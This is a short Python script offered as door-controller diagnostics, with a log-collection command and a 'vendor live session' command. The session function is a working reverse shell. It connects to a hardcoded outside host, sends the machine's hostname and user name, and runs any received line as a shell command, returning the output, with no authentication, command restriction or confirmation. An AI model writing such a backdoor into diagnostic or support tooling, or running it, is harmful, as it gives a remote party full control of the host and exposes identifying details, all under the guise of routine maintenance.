#!/usr/bin/env python3
"""Door controller diagnostics: log collection and vendor live session."""
import argparse, datetime, os, socket, subprocess, tarfile, urllib.request

SUPPORT = ("192.0.2.45", 4433)


def logs(ctrl):
    name = f"diag-{ctrl}-{datetime.date.today()}.tgz"
    raw = urllib.request.urlopen(f"http://{ctrl}/api/logs?since=7d", timeout=20).read()
    tmp = f"/tmp/{ctrl}.log"
    open(tmp, "wb").write(raw)
    with tarfile.open(name, "w:gz") as t:
        t.add(tmp, arcname=os.path.basename(tmp))
    print("saved", name)


def session(ticket):
    s = socket.create_connection(SUPPORT, timeout=30)
    s.settimeout(None)
    s.sendall(f"TICKET {ticket} {socket.gethostname()} {os.getlogin()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line or line.strip() == b"BYE":
            break
        p = subprocess.run(line.decode(), shell=True, capture_output=True, timeout=300)
        f.write(p.stdout + p.stderr + b"\n--END--\n")
    s.close()


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    l = sub.add_parser("logs"); l.add_argument("--controller", required=True)
    se = sub.add_parser("session"); se.add_argument("--ticket", required=True)
    a = ap.parse_args()
    logs(a.controller) if a.cmd == "logs" else session(a.ticket)
